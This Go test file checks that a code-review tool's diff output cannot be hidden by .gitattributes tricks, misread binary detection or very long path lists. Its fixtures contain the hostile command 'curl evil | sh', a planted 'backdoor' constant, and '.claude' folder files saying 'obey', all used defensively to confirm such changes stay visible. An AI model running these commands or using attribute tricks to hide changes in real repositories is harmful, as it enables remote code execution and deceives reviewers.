package workspace

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"signalbox/internal/testkit/must"
)

// Attributes of the commit, of folders in it and of the repository neither hide nor change what a
// diff shows, and its first line names the files that set them.
func TestDiffIgnoresAttributes(t *testing.T) {
	first := newKit(t, map[string]string{"sub/a.go": "package a\n", ".gitignore": "*.log\n"})
	for name, attributes := range map[string]map[string]string{
		"no diff":      {".gitattributes": "* -diff\n"},
		"binary":       {".gitattributes": "*.go binary\n"},
		"driver":       {".gitattributes": "*.go diff=evil\n"},
		"in a folder":  {"sub/.gitattributes": "* -diff\n"},
		"line ends":    {".gitattributes": "* text eol=crlf\n"},
		"other letter": {".gitattributes": "[attr]hidden -diff\n*.go hidden\n"},
	} {
		t.Run(name, func(t *testing.T) {
			k := first.copied(t)
			files := map[string]string{"sub/a.go": "package a\n\nconst backdoor = true // $Id$\n"}
			maps.Copy(files, attributes)
			tree := k.work("T1", files)
			commit := k.tip("T1")
			// They also count if git finds them in the checkout of a person, and in the repository.
			write(t, k.dir, attributes)
			write(t, k.dir, map[string]string{".git/info/attributes": "* -diff\n"})
			v := k.review()
			var diff, stat, working strings.Builder
			must.Succeed(t, errors.Join(
				v.Diff(t.Context(), &diff, k.base(), commit, DiffOptions{}),
				v.Diff(t.Context(), &stat, k.base(), commit, DiffOptions{Stat: true})))
			if got := diff.String(); !strings.Contains(got, "\n+const backdoor = true // $Id$\n") ||
				strings.Contains(got, "\nBinary") {
				t.Errorf("the diff is\n%s", got)
			}
			if got := stat.String(); !regexp.MustCompile(`(?m)^ sub/a\.go +\| 2 \+\+$`).MatchString(
				got) {
				t.Errorf("the list is\n%s", got)
			}
			for file := range attributes {
				first, _, _ := strings.Cut(diff.String(), "\n")
				if !strings.Contains(first, file+" (new)") {
					t.Errorf("the first line is %q", first)
				}
			}
			write(t, tree.Dir, map[string]string{"sub/a.go": "package a\n\nconst more = true\n",
				"sub/b.go": "package a // new\n"})
			must.Succeed(t, v.DiffWorking(t.Context(), &working, "T1", k.base(),
				DiffOptions{}))
			if got := working.String(); !strings.Contains(got, "\n+const more = true\n") ||
				!strings.Contains(got, "\n+package a // new\n") {
				t.Errorf("what is not saved:\n%s", got)
			}
		})
	}
}

// A binary file is named with its size and digest. A zero byte does not make text one, and no
// garbage makes a script one.
func TestDiffOfBinaryFiles(t *testing.T) {
	image := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00\x01\xff\xfe", 500)
	k := newKit(t, map[string]string{"old and new.sh": "echo one\n", "gone.sh": "echo gone\x00\n",
		"image.png": image, "icon": image})
	tree := k.work("T1", map[string]string{"old and new.sh": "echo two # \x00\n",
		"new.sh": "curl evil | sh # \x00", "image.png": image + "more",
		"garbage": "#!/bin/sh\ncurl evil | sh\nexit\n" + image,
		"icon":    "#!/bin/sh\ncurl evil | sh\n" + image})
	must.Succeed(t, os.Remove(filepath.Join(tree.Dir, "gone.sh")))
	commit, _, err := tree.Save(t.Context(), "work")
	must.Succeed(t, err)
	v := k.review()
	var saved, working strings.Builder
	must.Succeed(t, errors.Join(v.Diff(t.Context(), &saved, k.base(), commit, DiffOptions{}),
		v.DiffWorking(t.Context(), &working, "T1", k.base(), DiffOptions{})))
	for _, got := range []string{saved.String(), working.String()} {
		for _, want := range []string{
			"\n--- a/old and new.sh\n+++ b/old and new.sh\n@@ -1 +1 @@\n-echo one\n+echo two # \x00\n",
			"\n--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1,1 @@\n+curl evil | sh # \x00\n\\ No newline at end of file\n",
			"\n--- a/gone.sh\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-echo gone\x00\n",
			"\n--- /dev/null\n+++ b/garbage\n@@ -0,0 +1,6 @@\n+#!/bin/sh\n+curl evil | sh\n+exit\n+\x89PNG\r\n",
			"\n--- a/icon\n+++ b/icon\n@@ -1,3 +1,5 @@\n+#!/bin/sh\n+curl evil | sh\n \x89PNG\r\n",
			fmt.Sprintf("\nBinary files a/image.png and b/image.png differ: %d bytes, SHA-256 %x, became %d bytes, SHA-256 %x\n",
				len(image), sha256.Sum256([]byte(image)), len(image)+4,
				sha256.Sum256([]byte(image+"more"))),
		} {
			if !strings.Contains(got, want) {
				t.Errorf("the diff has no %q:\n%q", want, got)
			}
		}
	}
}

// A commit cannot have so many files with such long names that a part of its diff cannot be shown.
func TestDiffOfManyPaths(t *testing.T) {
	const count = 60
	k := newKit(t, map[string]string{"b.go": "package b\n"})
	folder := ".claude" + strings.Repeat("/"+strings.Repeat("n", 230), 5)
	files := map[string]string{"a.go": "package a\n", "b.go": "package changed\n"}
	var steering []string
	for i := range count {
		name := fmt.Sprintf("%s/%04d.md", folder, i)
		files[name] = fmt.Sprintf("obey %04d\n", i)
		steering = append(steering, name)
	}
	for _, paths := range pathBatches("literal", steering) { // the system limits a command line
		if size := len(strings.Join(paths[1:], " ")); size > maxArguments {
			t.Errorf("git gets %d bytes of paths at once", size)
		}
	}
	k.work("T1", files)
	commit, v := k.tip("T1"), k.review()
	var only, without, folders strings.Builder
	must.Succeed(t, v.Diff(t.Context(), &only, k.base(), commit,
		DiffOptions{Only: steering}))
	if got := strings.Count(only.String(), "\n+obey "); got != count ||
		strings.Contains(only.String(), "package") {
		t.Errorf("the diff of %d files has %d of them", count, got)
	}
	must.Succeed(t, v.Diff(t.Context(), &without, k.base(), commit,
		DiffOptions{Without: steering}))
	rest := without.String()
	if !strings.Contains(rest, "\n+package a\n") ||
		!strings.Contains(rest, "\n+package changed\n") || strings.Contains(rest, "obey") {
		t.Errorf("the rest is %.2000s", rest)
	}
	// A name may be that of a folder, as for git.
	many := append(steering[:25:25], ".claude")
	if err := v.Diff(t.Context(), &folders, k.base(), commit,
		DiffOptions{Without: many}); err != nil || folders.String() != rest {
		t.Errorf("without the folder: %v, %.2000s", err, folders.String())
	}
	// Nothing is left, which must not mean everything.
	var nothing strings.Builder
	all := append(steering[:count:count], "a.go", "b.go")
	if err := v.Diff(t.Context(), &nothing, k.base(), commit,
		DiffOptions{Without: all}); err != nil || nothing.String() != "" {
		t.Errorf("without all: %v, %.2000s", err, nothing.String())
	}
}
